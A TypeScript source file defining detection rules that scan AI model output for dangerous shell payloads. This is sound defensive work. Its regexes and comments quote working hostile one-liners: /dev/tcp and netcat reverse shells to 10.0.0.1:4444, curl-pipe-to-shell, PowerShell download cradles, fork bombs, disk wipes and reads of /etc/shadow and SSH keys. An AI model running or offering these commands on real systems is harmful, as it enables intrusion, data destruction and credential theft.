import { lineEndWithin } from './line-end-within.js';
import { lineAround, type PayloadRule, skipUpToFourSpaces } from './payload-rule.js';

// Shell payloads that would hurt a system that runs model output (agents, copy-paste into a terminal).
// Ordinary commands (`ls -la`, `rm -rf node_modules`, `curl https://api…`) match none of these.

const RECURSIVE_FLAG = /(?:^|\s)-[a-zA-Z]{0,8}[rR]|--recursive/;
const ROOT_TARGET = /^(?:\/\*?|~\/?|\*|\$HOME\/?|\/(?:etc|usr|var|home|boot|bin|lib|opt|root|sys)\/?)$/;
const DOWNLOADER = /\b(?:curl|wget)\b/;
const DISK_DEVICE = /\/dev\/(?:sd|nvme|hd|xvd|mmcblk)/;
const SHELL_LISTENER =
  /\s-[a-zA-Z]{0,6}[ec]\s{1,4}(?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da|k)?sh\b|\bexec:|\bsh\s{1,4}-i\b/;
const DOWNLOAD_CRADLE =
  /downloadstring|downloadfile|net\.webclient|invoke-webrequest|\biwr\b|frombase64string|start-bitstransfer/i;
const ENCODED_COMMAND = /\s-e(?:c|nc|ncodedcommand)?\s{1,4}[A-Za-z0-9+/=]{20}/i;
const BACKTICK_CONTEXT = /(?:[=("']|\b(?:echo|eval|export|exec|sh|bash|-c))\s{0,2}$/;
const RAW_ADDRESS = /https?:\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|\bhttp:\/\//i;

/** First letters (lower-cased) of the commands a dangerous substitution runs: curl, wget, nc, rm, … */
const SUBSTITUTED_COMMAND_INITIALS = new Set(
  ['c', 'w', 'n', 'r', 'b', 'p'].map((letter) => letter.charCodeAt(0)),
);

/**
 * Where a dangerous substitution can begin: `$(` or a backtick, at most four whitespace characters, then
 * the first letter of one of the commands (either case).
 */
function substitutionFits(text: string, index: number): boolean {
  let at = index + 1;
  if (text.charCodeAt(index) === 36) {
    if (text.charCodeAt(at) !== 40) return false;
    at++;
  }
  // ASCII capitals to lower case; anything else is left as it is (and is no initial).
  const code = text.charCodeAt(skipUpToFourSpaces(text, at));
  return SUBSTITUTED_COMMAND_INITIALS.has(code >= 65 && code <= 90 ? code + 32 : code);
}

/** Shell payload rules. */
export const SHELL_INJECTION_RULES: readonly PayloadRule[] = [
  {
    id: 'output.shell-rm-root',
    type: 'SHELL_INJECTION',
    // `rm -rf /`, `rm -rf ~`, `rm -fr /*`, `rm -rf --no-preserve-root /`, `rm -rf $HOME`. The arguments are
    // read by hand: a regex over repeated flags would backtrack.
    pattern: /\brm\s/,
    score: 0.95,
    hints: ['rm'],
    // Every match has `rm` right before whitespace; `form`, `confirm` and the like mostly do not.
    spaceAfter: ['rm'],
    confirm: ({ text, end }) => {
      const rest = text.slice(end, lineEndWithin(text, end, 200));
      let recursive = false;
      for (const word of rest.split(/[\s;&|)]/)) {
        if (word.length === 0) continue;
        if (word.startsWith('-')) {
          if (RECURSIVE_FLAG.test(` ${word}`)) recursive = true;
          continue;
        }
        return recursive && ROOT_TARGET.test(word.replace(/^["']|["']$/g, '')) ? 0.95 : undefined;
      }
      return undefined;
    },
  },
  {
    id: 'output.shell-pipe-to-interpreter',
    type: 'SHELL_INJECTION',
    // `curl … | sh`, `wget -qO- … | sudo bash`: runs whatever the server returns. Anchored on the pipe;
    // the download command is looked up earlier on the same line.
    pattern: /\|\s{0,4}(?:sudo\s{1,4})?(?:(?:ba|z|da|k|fi)?sh|python[0-9.]{0,4}|perl|ruby|node)\b/,
    score: 0.8,
    hints: ['|'],
    confirm: ({ text, start }) => {
      const { line, lineStart } = lineAround(text, start);
      const before = line.slice(0, start - lineStart);
      const download = before.search(DOWNLOADER);
      if (download === -1) return undefined;
      return RAW_ADDRESS.test(before.slice(download)) ? 0.9 : 0.8;
    },
  },
  {
    id: 'output.shell-process-substitution-download',
    type: 'SHELL_INJECTION',
    pattern: /\b(?:ba|z)?sh\s{1,4}<\(\s{0,4}(?:curl|wget)\b/,
    score: 0.8,
    hints: ['<('],
  },
  {
    id: 'output.shell-reverse-shell-dev-tcp',
    type: 'SHELL_INJECTION',
    // `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`.
    pattern: /\/dev\/(?:tcp|udp)\/[\w.-]{1,253}\/\d{1,5}/,
    score: 0.97,
    hints: ['/dev/'],
  },
  {
    id: 'output.shell-reverse-shell-netcat',
    type: 'SHELL_INJECTION',
    // `nc -e /bin/sh 10.0.0.1 4444`, `ncat … -c bash`, `socat … exec:`, `mkfifo … | nc`.
    pattern: /\b(?:nc|ncat|netcat|socat)\s/,
    score: 0.9,
    hints: ['nc', 'socat'],
    // Every alternative ends in `nc` or `cat` followed by whitespace.
    spaceAfter: ['nc', 'cat'],
    confirm: ({ text, start }) => {
      const { line } = lineAround(text, start);
      if (
        SHELL_LISTENER.test(line) ||
        (line.includes('mkfifo') && /\|\s{0,4}(?:\/bin\/)?(?:ba)?sh\b/.test(line))
      ) {
        return 0.93;
      }
      return undefined;
    },
  },
  {
    id: 'output.shell-python-reverse-shell',
    type: 'SHELL_INJECTION',
    pattern: /socket\.socket\s{0,2}\(/,
    score: 0.9,
    hints: ['socket.socket'],
    requires: ['('],
    confirm: ({ text, end }) => {
      const after = text.slice(end, end + 400);
      return /\bconnect\s{0,2}\(/.test(after) && /dup2|pty\.spawn|subprocess|\/bin\/(?:ba)?sh/.test(after)
        ? 0.93
        : undefined;
    },
  },
  {
    id: 'output.shell-dangerous-substitution',
    type: 'SHELL_INJECTION',
    // `$(curl …)`, `` `cat /etc/passwd` ``, `$(rm -rf …)` embedded in another command.
    pattern:
      /(?:\$\(|`)\s{0,4}(?:curl\s|wget\s|nc\s|ncat\s|netcat\s|rm\s{1,4}-[a-zA-Z]{0,4}[rf]|cat\s{1,4}\/etc\/(?:passwd|shadow)|bash\s{1,4}-i|python[0-9.]{0,4}\s{1,4}-c|base64\s{1,4}-d)/,
    score: 0.8,
    hints: ['$(', '`'],
    starts: { characters: ['$', '`'], fits: substitutionFits },
    // Backticks are also Markdown inline code (`rm -rf build`): they count only inside a command, after
    // `=`, `(`, a quote or a command word.
    confirm: ({ text, start }) => {
      if (text[start] === '$') return 0.8;
      const before = text.slice(Math.max(0, start - 12), start);
      return BACKTICK_CONTEXT.test(before) ? 0.8 : undefined;
    },
  },
  {
    id: 'output.shell-recon-substitution',
    type: 'SHELL_INJECTION',
    pattern: /\$\(\s{0,4}(?:whoami|id|uname\s{1,4}-a|hostname|env|printenv)\s{0,4}\)/,
    score: 0.5,
    hints: ['$('],
  },
  {
    id: 'output.shell-chained-sensitive-read',
    type: 'SHELL_INJECTION',
    // `; cat /etc/passwd`, `&& cat /etc/shadow`, `| cat ~/.ssh/id_rsa` appended to another command. A
    // public key (`&& cat ~/.ssh/id_ed25519.pub`, the usual last step of setting up a key) is not secret.
    pattern:
      /(?:;|&&|\|\||\|)\s{0,4}(?:cat|less|more|head|tail)\s{1,4}(?:\/etc\/(?:passwd|shadow|sudoers)|~\/\.ssh\/id_\w{2,10}(?!\w)(?!\.pub\b)|~\/\.aws\/credentials)/,
    score: 0.85,
    hints: ['/etc/', '~/.ssh', '~/.aws'],
  },
  {
    id: 'output.shell-world-writable',
    type: 'SHELL_INJECTION',
    pattern: /\bchmod\s{1,4}(?:-R\s{1,4})?0?777\b|\bchmod\s{1,4}(?:[ugoa]{0,3}\+s|[246][0-7]{3})\b/,
    score: 0.55,
    hints: ['chmod'],
    confirm: ({ text, end }) =>
      /^\s{1,4}\/(?:\s|$|etc|usr|bin)/.test(text.slice(end, end + 12)) ? 0.85 : 0.55,
  },
  {
    id: 'output.shell-fork-bomb',
    type: 'SHELL_INJECTION',
    pattern: /:\s{0,2}\(\s{0,2}\)\s{0,4}\{\s{0,4}:\s{0,4}\|\s{0,4}:\s{0,4}&\s{0,4}\}\s{0,4};\s{0,4}:/,
    score: 0.95,
    hints: [':|:', ': |'],
  },
  {
    id: 'output.shell-disk-wipe',
    type: 'SHELL_INJECTION',
    // `dd if=/dev/zero of=/dev/sda`, `> /dev/sda`.
    pattern:
      /\bdd\s{1,4}if=\/dev\/(?:zero|random|urandom)\s{1,4}of=\/dev\/(?:sd|nvme|hd|xvd|disk|mmcblk)|>\s{0,2}\/dev\/(?:sd[a-z]|nvme\d)/,
    score: 0.95,
    hints: ['/dev/'],
  },
  {
    id: 'output.shell-format-disk',
    type: 'SHELL_INJECTION',
    // `mkfs.ext4 /dev/sda1`, `mkfs -t xfs -f /dev/nvme0n1`.
    pattern: /\bmkfs(?:\.[a-z0-9]{2,8})?\s/,
    score: 0.9,
    hints: ['mkfs'],
    confirm: ({ text, end }) =>
      DISK_DEVICE.test(text.slice(end, end + 80).split('\n')[0] ?? '') ? 0.9 : undefined,
  },
  {
    id: 'output.powershell-download-cradle',
    type: 'SHELL_INJECTION',
    // `IEX (New-Object Net.WebClient).DownloadString('http://…')`, `iwr … | iex`.
    pattern: /\b(?:iex|invoke-expression)\b/,
    score: 0.9,
    hints: ['iex', 'invoke-expression'],
    confirm: ({ text, start }) => (DOWNLOAD_CRADLE.test(lineAround(text, start).line) ? 0.92 : undefined),
  },
  {
    id: 'output.powershell-encoded-command',
    type: 'SHELL_INJECTION',
    pattern: /\bpowershell(?:\.exe)?\s/,
    score: 0.85,
    hints: ['powershell'],
    confirm: ({ text, start }) => (ENCODED_COMMAND.test(lineAround(text, start).line) ? 0.85 : undefined),
  },
];

/** Exported for the ReDoS test. */
export const SHELL_PATTERNS: readonly RegExp[] = [
  ...SHELL_INJECTION_RULES.map((rule) => rule.pattern),
  RECURSIVE_FLAG,
  ROOT_TARGET,
  DOWNLOADER,
  DISK_DEVICE,
  SHELL_LISTENER,
  DOWNLOAD_CRADLE,
  ENCODED_COMMAND,
  RAW_ADDRESS,
  BACKTICK_CONTEXT,
];
